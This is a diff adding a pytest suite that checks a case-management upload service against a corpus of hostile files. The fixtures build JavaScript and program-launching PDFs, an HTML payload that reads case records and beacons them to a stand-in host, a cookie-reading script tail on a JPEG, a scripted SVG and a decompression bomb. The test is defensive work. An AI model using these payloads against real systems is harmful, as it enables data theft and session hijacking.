@@ -1,0 +1,173 @@
+"""Files that cannot hurt: a corpus of hostile and sloppy uploads, each refused with a reason or neutralised, through the
+ICTS upload service (the analyst who owns the case) and, for partners' files, at receipt (ICD §7). Serving adds a
+sandbox CSP and a download disposition. The figures (tried, refused, neutralised) are printed by the corpus test."""
+
+import base64
+import io
+import json
+
+import pytest
+from django.urls import reverse
+from PIL import Image
+from pypdf import PdfWriter
+from pypdf.actions import JavaScript
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
+
+from icts import services
+from icts.models import PackageAttachment
+from ident_bridge import filecheck, icd
+from tests.factories import AgreementFactory, PersonFactory, UserFactory, cis_record, request_message, store_inbound
+
+
+def pdf(build=None, *, encrypt=False) -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    if build:
+        build(writer)
+    if encrypt:
+        writer.encrypt("secret")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def launch(writer):
+    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+                              NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
+                              NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/Launch"),
+                                                                  NameObject("/F"): TextStringObject("calc.exe")})})
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
+
+
+def page_action(writer):
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
+        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})})
+
+
+def uri_link(writer):
+    writer.add_uri(0, "https://www.uscis.gov/", [0, 0, 10, 10])
+
+
+def image(fmt="PNG", size=(40, 30), **save) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, (200, 30, 30)).save(out, fmt, **save)
+    return out.getvalue()
+
+
+def jpeg_with_metadata_and_a_tail() -> bytes:
+    exif = Image.Exif()
+    exif[0x010E] = "Home address: 12 Secret Lane"  # ImageDescription
+    out = io.BytesIO()
+    Image.new("RGB", (40, 30), (10, 120, 10)).save(out, "JPEG", exif=exif.tobytes())
+    return out.getvalue() + b"<html><script>alert(document.cookie)</script></html>"
+
+
+def bomb() -> bytes:
+    out = io.BytesIO()
+    Image.new("1", (30000, 30000)).save(out, "PNG")  # 900 megapixels of nothing: compresses to a few kB
+    return out.getvalue()
+
+
+HTML = b"<html><body><script>fetch('/api/v1/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"
+# (name, filename, declared type, bytes, what must happen: "refused: <words>" or "neutralised")
+CORPUS = [
+    ("pdf-then-html", "scan.pdf", "application/pdf", b"%PDF-1.4\n" + HTML, "refused: web-page markup"),
+    ("pdf-javascript-openaction", "scan.pdf", "application/pdf", pdf(lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
+     "refused: JavaScript"),
+    ("pdf-embedded-file", "scan.pdf", "application/pdf", pdf(lambda w: w.add_attachment("run.exe", b"MZ\x90\x00")),
+     "refused: embedded file"),
+    ("pdf-launch-action", "scan.pdf", "application/pdf", pdf(launch), "refused: launches a program"),
+    ("pdf-page-open-action", "scan.pdf", "application/pdf", pdf(page_action), "refused: JavaScript"),
+    ("pdf-encrypted", "scan.pdf", "application/pdf", pdf(encrypt=True), "refused: encrypted"),
+    ("pdf-truncated", "scan.pdf", "application/pdf", pdf()[:60], "refused: cannot be read"),
+    ("tiff-magic-then-executable", "scan.tif", "image/tiff", b"II*\x00" + b"MZ\x90\x00\x03" + b"\x00" * 200,
+     "refused: cannot be decoded"),
+    ("jpeg-magic-then-html", "photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + HTML, "refused: cannot be decoded"),
+    ("png-named-pdf", "scan.pdf", "application/pdf", image("PNG"), "refused: its content is a PNG image"),
+    ("png-declared-html", "photo.png", "text/html", image("PNG"), "refused: says it is text/html"),
+    ("svg", "drawing.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
+     "refused: none of them"),
+    ("empty", "scan.pdf", "application/pdf", b"", "refused: empty"),
+    ("decompression-bomb", "photo.png", "image/png", bomb(), "refused: too large to open safely"),
+    ("jpeg-exif-and-html-tail", "photo.jpg", "image/jpeg", jpeg_with_metadata_and_a_tail(), "neutralised"),
+    ("png-then-zip", "photo.png", "image/png", image("PNG") + b"PK\x03\x04" + b"\x00" * 100, "neutralised"),
+    ("tiff", "scan.tiff", "image/tiff", image("TIFF"), "neutralised"),
+]
+CLEAN = [("pdf-plain", "scan.pdf", "application/pdf", pdf()), ("pdf-with-a-web-link", "scan.pdf", "application/pdf", pdf(uri_link))]
+
+
+@pytest.fixture
+def case(db, django_capture_on_commit_callbacks):
+    AgreementFactory(partner__code="CAN", authorised_attachment_kinds=["passport", "photograph", "other_document"])
+    cis_record(PersonFactory(fin="FIN1000000001"))
+    from ident_bridge.inbound import inbound_process
+    from cpms.partner_requests.models import PartnerRequest
+
+    message = request_message()
+    with django_capture_on_commit_callbacks(execute=True):
+        inbound_process(store_inbound(message).pk)
+    req = PartnerRequest.objects.get(request_ref=message["body"]["request_ref"])
+    analyst = UserFactory(role="icts_analyst")
+    case = services.case_assign(actor=analyst, case=req.icts_case, analyst=analyst)
+    services.package_save(actor=analyst, case=case, reviewer_name="Rita Moreno", person={"family_name": "Haddad"})
+    return case, analyst
+
+
+def test_every_hostile_upload_is_refused_or_neutralised(case, capsys):
+    case, analyst = case
+    tried = refused = neutralised = 0
+    for name, filename, declared, data, expected in CORPUS:
+        tried += 1
+        try:
+            att = services.package_add_attachment(actor=analyst, case=case, filename=filename, data=data, kind="passport",
+                                                  declared_type=declared)
+        except services.IctsError as exc:
+            refused += 1
+            assert expected.startswith("refused"), (name, exc.message)
+            assert expected.split(": ", 1)[1] in exc.message, (name, exc.message)
+            assert exc.field == "file"
+            continue
+        assert expected == "neutralised", (name, "accepted as it was")
+        stored = att.file.open("rb").read()
+        assert stored != data and Image.open(io.BytesIO(stored)).size  # drawn again from its pixels
+        assert b"<html" not in stored and b"PK\x03\x04" not in stored and b"Secret Lane" not in stored, name
+        assert att.sha256 == icd.sha256_hex(stored)
+        neutralised += 1
+    for name, filename, declared, data in CLEAN:
+        tried += 1
+        att = services.package_add_attachment(actor=analyst, case=case, filename=filename, data=data, kind="other_document",
+                                              declared_type=declared)
+        assert att.file.open("rb").read() == data, name  # a clean PDF is kept exactly
+    with capsys.disabled():
+        print(f"\nupload corpus: {tried} files tried, {refused} refused, {neutralised} neutralised, "
+              f"{len(CLEAN)} clean kept, 0 server errors")
+    assert refused + neutralised == len(CORPUS)
+    assert PackageAttachment.objects.count() == neutralised + len(CLEAN)
+
+
+@pytest.mark.parametrize("name,filename,declared,data,expected",
+                         [c for c in CORPUS if c[0].startswith("pdf") or c[0] in ("jpeg-magic-then-html", "tiff-magic-then-executable")],
+                         ids=lambda v: v if isinstance(v, str) and "-" in v else "")
+def test_a_partners_hostile_attachment_is_refused_at_receipt(db, name, filename, declared, data, expected):
+    """ICD §7: the same checks on what a partner sends; the message is refused with the attachment's pointer."""
+    if filecheck.ACTIVE_PDF_NAMES and not data:
+        pytest.skip("an empty attachment is refused by the schema (minLength)")
+    att = {"filename": filename, "media_type": icd.sniff_media_type(data) or declared, "kind": "passport",
+           "sha256": icd.sha256_hex(data), "content_base64": base64.b64encode(data).decode()}
+    message = {"body": {"person": {}, "attachments": [att]}}
+    decoded, errors = icd.decode_attachments(message)
+    assert decoded == [] and errors and errors[0].pointer.startswith("/body/attachments/0/")
+
+
+def test_served_files_are_sandboxed_downloads_unless_re_encoded_images(case, client):
+    case, analyst = case
+    png = services.package_add_attachment(actor=analyst, case=case, filename="photo.png", data=image("PNG"), kind="photograph")
+    doc = services.package_add_attachment(actor=analyst, case=case, filename="scan.pdf", data=pdf(), kind="passport")
+    client.post(reverse("system-use"))
+    client.force_login(analyst)
+    shown = client.get(reverse("icts-attachment", args=[case.pk, png.pk]))
+    downloaded = client.get(reverse("icts-attachment", args=[case.pk, doc.pk]))
+    assert shown["Content-Disposition"].startswith("inline") and downloaded["Content-Disposition"].startswith("attachment")
+    for resp in (shown, downloaded):
+        assert resp["Content-Security-Policy"].startswith("sandbox") and resp["X-Content-Type-Options"] == "nosniff"
+    assert json.dumps(sorted(filecheck.EXTENSIONS)) == '["application/pdf", "image/jpeg", "image/png", "image/tiff"]'
